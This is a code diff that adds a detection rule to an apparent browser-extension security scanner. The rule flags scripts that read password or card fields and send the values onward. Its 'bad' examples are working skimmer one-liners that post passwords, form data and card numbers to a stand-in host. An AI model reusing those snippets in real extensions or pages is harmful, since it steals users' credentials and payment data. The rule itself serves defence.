@@ -1,0 +1,74 @@
+import { callsNamed, constant, readsNamed, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { checkScripts, contentExample } from './checkScripts.ts';
+import { listenersOf } from './listeners.ts';
+import { originsOf } from './origins.ts';
+import { runsInPages } from './places.ts';
+import { leavesBy, readsBetween } from './sendings.ts';
+import { callsWithin } from './usage.ts';
+
+const SECRET = /type\s*=\s*\\?["']?password|autocomplete\s*[*^~|]?=\s*\\?["']?cc-|name\s*[*^~|]?=\s*\\?["']?(card_?number|cvv|cvc|passw)|#(password|pass|card-?number|cvv)\b/i;
+
+export const passwordFieldRead = defineRule({
+  id: 'password-field-read',
+  title: 'Passwords or card numbers are read out of web pages and handed on',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'privacy',
+  applies: 'extension',
+  cwe: 'CWE-522',
+  references: ['https://attack.mitre.org/techniques/T1056/'],
+  why: 'Only a password manager has a reason to read these fields. Sent to a server, they open the accounts of everybody who has the extension.',
+  remedy: 'Do not read fields for passwords and cards. A password manager keeps them encrypted on the device.',
+  check: checkScripts(function* ({ script, file, facts, hit }) {
+    if (!runsInPages(facts, file.path)) return;
+    const fields = secretFields(script);
+    const read = new Set<number>();
+    for (const value of readsNamed(script, 'value')) {
+      const origins = originsOf(script, script.a[value] as number);
+      if (fields.some((field) => origins.has(field))) read.add(value);
+    }
+    const out = leavesBy(script, read);
+    const first = [...read][0];
+    if (out !== undefined && first !== undefined) {
+      if (out.kind === 'network') yield hit(first, { severity: 'critical', confidence: 'high', message: `They are sent to ${out.to}.` });
+      else yield hit(first, { severity: 'medium', message: out.kind === 'message' ? 'They are handed to the background.' : 'They are stored.' });
+      return;
+    }
+    // Every form that is sent is copied on its way.
+    for (const listener of listenersOf(script, 'submit')) {
+      if (!listener.everywhere && fields.length === 0) continue;
+      const fn = script.functions[listener.fn];
+      if (fn === undefined) continue;
+      const values = readsBetween(script, fn.start, fn.end, new Set(['value', 'elements']));
+      for (const call of callsWithin(script, listener.fn)) if (call.isNew && script.op[call.callee] === 3 && script.strings[script.a[call.callee] as number] === 'FormData') values.add(call.value);
+      const sent = leavesBy(script, values, ['network', 'message']);
+      if (sent === undefined) continue;
+      if (sent.kind === 'network') yield hit(listener.value, { severity: listener.everywhere ? 'critical' : 'high', message: `What is entered into forms is sent to ${sent.to}.` });
+      else if (listener.everywhere) yield hit(listener.value, { severity: 'medium', message: 'What is entered into any form is handed to the background.' });
+    }
+  }),
+  examples: {
+    bad: [
+      contentExample('const p = document.querySelector("input[type=password]"); p.addEventListener("change", () => { fetch("https://x.example/p", { method: "POST", body: JSON.stringify({ u: location.href, p: p.value }) }); });'),
+      contentExample('document.addEventListener("submit", (e) => { const data = Object.fromEntries(new FormData(e.target)); fetch("https://x.example/f", { method: "POST", body: JSON.stringify(data) }); }, true);'),
+      contentExample('document.querySelectorAll(\'input[type="password"]\').forEach((f) => f.addEventListener("blur", () => chrome.runtime.sendMessage({ type: "cred", value: f.value })));'),
+      contentExample('const card = document.querySelector("[autocomplete=cc-number]"); setInterval(() => { navigator.sendBeacon("https://x.example/c", card.value); }, 1000);'),
+    ],
+    good: [
+      contentExample('document.querySelectorAll("input[type=password]").forEach((f) => { f.type = "text"; });'),
+      contentExample('const p = document.querySelector("input[type=password]"); if (p.value.length < 8) warn("too short");'),
+      contentExample('const form = document.querySelector("#mine"); form.addEventListener("submit", (e) => { save(form.elements.name.value); });'),
+      contentExample('const q = document.querySelector("input[type=search]"); fetch("https://x.example/s?q=" + q.value);'),
+    ],
+  },
+});
+
+function secretFields(script: ScriptFacts): number[] {
+  return callsNamed(script, 'querySelector', 'querySelectorAll', 'closest', 'find', '$', 'jQuery', 'getElementById', 'matches')
+    .filter((call) => {
+      const selector = constant(script, call.args[0] ?? 0);
+      return selector !== undefined && (SECRET.test(selector) || /^(password|passwd|card-?number|cvv)$/i.test(selector));
+    })
+    .map((call) => call.value);
+}
